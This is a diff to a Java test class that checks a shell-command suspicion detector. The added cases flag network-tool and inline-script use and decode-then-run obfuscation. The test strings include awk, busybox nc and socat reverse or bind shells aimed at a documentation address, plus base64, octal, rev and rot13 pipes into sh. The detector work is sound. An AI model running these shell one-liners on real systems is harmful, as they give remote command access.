@@ -136,6 +136,7 @@ class FormatsTest {
                 List.of(List.of("a", "b c"), List.of("d", "e;f"), List.of("g")),
                 ShellText.commands("a 'b c' 2>&1 >/dev/null && d \"e;f\" | g # h"));
         assertEquals(List.of("a", "&&", "b\\c", "d e"), ShellText.words("a && b\\\\c d\\ e"));
+        assertEquals(List.of("/ren\\xe9", "x41"), ShellText.words("/ren\\xe9 \\x41"));
         assertEquals(List.of(List.of("echo"), List.of("curl", "x")), ShellText.commands("echo $(curl x)"));
     }
 
@@ -155,9 +156,38 @@ class FormatsTest {
         assertEquals(
                 Set.of(Trait.NETWORK_TOOL, Trait.INLINE_SCRIPT),
                 Suspicion.in("node -e \"require('net').connect(443)\""));
+        assertEquals(
+                Set.of(Trait.NETWORK_TOOL, Trait.INLINE_SCRIPT),
+                Suspicion.in("awk 'BEGIN{s=\"/inet/tcp/0/192.0.2.1/443\";while((s|&getline c)>0)system(c)}'"));
+        assertEquals(
+                Set.of(Trait.NETWORK_TOOL, Trait.INLINE_SCRIPT), Suspicion.in("/bin/busybox nc -ll -p 1 -e /bin/sh"));
+        assertEquals(
+                Set.of(Trait.NETWORK_TOOL, Trait.INLINE_SCRIPT),
+                Suspicion.in("socat TCP:192.0.2.1:1 EXEC:/bin/bash,pty"));
+        assertEquals(Set.of(Trait.NETWORK_TOOL), Suspicion.in("nc -z db.example 5432"));
         assertEquals(Set.of(Trait.INLINE_SCRIPT), Suspicion.in("nc -Uu -W1 /run/x/share.sock | sh"), "no network");
         assertEquals(Set.of(), Suspicion.in("/usr/sbin/sshd -D"));
         assertEquals(Set.of(), Suspicion.in("test -x /usr/sbin/anacron || run-parts /etc/cron.daily"));
+    }
+
+    @Test
+    void whatIsDecodedBeforeItRunsIsSeen() {
+        for (String hidden : List.of(
+                "basenc --base64 -d x | sh",
+                "base64 --de x | sh",
+                "printf '\\163\\154\\145\\145\\160\\040' | sh",
+                "echo '0 peels' | rev | bash",
+                "eval \"$(tr 'A-Za-z' 'N-ZA-Mn-za-m' <<< 'fyrrc 0')\"")) {
+            assertEquals(Set.of(Trait.DECODES, Trait.INLINE_SCRIPT), Suspicion.in(hidden), hidden);
+        }
+        for (String plain : List.of(
+                "echo \"$name\" | rev | cut -d. -f1 | rev",
+                "printf '\\342\\224\\200\\342\\224\\200\\342\\224\\200'",
+                "PS1='\\033[01;32m\\u\\033[00m'",
+                "tr 'a-z' 'A-Z' < x",
+                "base64 -w0 x")) {
+            assertEquals(Set.of(), Suspicion.in(plain), plain);
+        }
     }
 
     @Test
